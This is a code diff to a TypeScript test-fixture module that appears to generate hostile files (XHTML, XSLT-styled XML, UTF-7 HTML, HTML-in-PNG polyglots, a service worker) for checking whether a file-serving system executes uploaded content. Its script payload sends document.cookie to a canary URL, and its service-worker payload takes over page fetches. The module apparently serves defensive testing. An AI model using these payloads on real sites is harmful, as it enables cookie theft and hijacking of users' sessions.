@@ -17,12 +17,12 @@ type Text = string | Buffer;
 
 /** Each tells of itself at `canary/NAME` when it runs, and leaves its name in the page. */
 export function hostileFiles(canary: string): readonly HostileFile[] {
-  const files = [...markup(canary), ...documents(canary), ...mixtures(canary)];
+  const files = [...markup(canary), ...documents(canary), ...mixtures(canary), worker(canary)];
   return files.map(({ bytes, ...file }) => ({ ...file, bytes: Buffer.from(bytes as string) }));
 }
 
 /** Without quotes and angles, so that it may stand anywhere. */
-export function scriptOf(canary: string, name: string): string {
+function scriptOf(canary: string, name: string): string {
   return `document.title='ran';globalThis.ran='${name}';new Image().src='${canary}/${name}?'+encodeURIComponent(document.cookie)`;
 }
 
@@ -71,10 +71,16 @@ function markup(canary: string): readonly Draft[] {
       bytes: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>${script('page.xhtml')}</head><body/></html>`,
     },
     {
-      name: 'styled.xml',
+      name: 'named.xml',
       claimed: 'text/xml',
       runs: true,
-      bytes: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#style"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:${script('styled.xml').slice(1).replace('</', '</h:')}<xsl:stylesheet id="style" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html>${script('styled.xml')}</html></xsl:template></xsl:stylesheet></x>`,
+      bytes: `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${scriptOf(canary, 'named.xml')}</h:script></x>`,
+    },
+    {
+      // Not every Chromium transforms it.
+      name: 'styled.xml',
+      claimed: 'text/xml',
+      bytes: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#style"?><!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><x><xsl:stylesheet id="style" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html>${script('styled.xml')}</html></xsl:template></xsl:stylesheet></x>`,
     },
   ];
 }
@@ -116,12 +122,6 @@ trailer<</Root 1 0 R>>
       claimed: 'text/html; charset=utf-7',
       bytes: html('seven.html').replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
     },
-    {
-      name: 'worker.js',
-      claimed: 'text/javascript',
-      runs: true,
-      bytes: `self.onfetch=(e)=>e.respondWith(new Response('taken'));fetch('${canary}/worker.js')`,
-    },
   ];
 }
 
@@ -140,7 +140,7 @@ function mixtures(canary: string): readonly Draft[] {
     },
     {
       name: 'html.png',
-      claimed: 'text/html',
+      claimed: 'text/html; charset=utf-8',
       runs: true,
       isPicture: true,
       bytes: Buffer.concat([
@@ -151,4 +151,10 @@ function mixtures(canary: string): readonly Draft[] {
       ]),
     },
   ];
+}
+
+/** The last one: where it gets in, it answers for all that are opened after it. */
+function worker(canary: string): Draft {
+  const script = `self.onfetch=(e)=>e.respondWith(new Response('taken'));fetch('${canary}/worker.js')`;
+  return { name: 'worker.js', claimed: 'text/javascript', runs: true, bytes: script };
 }
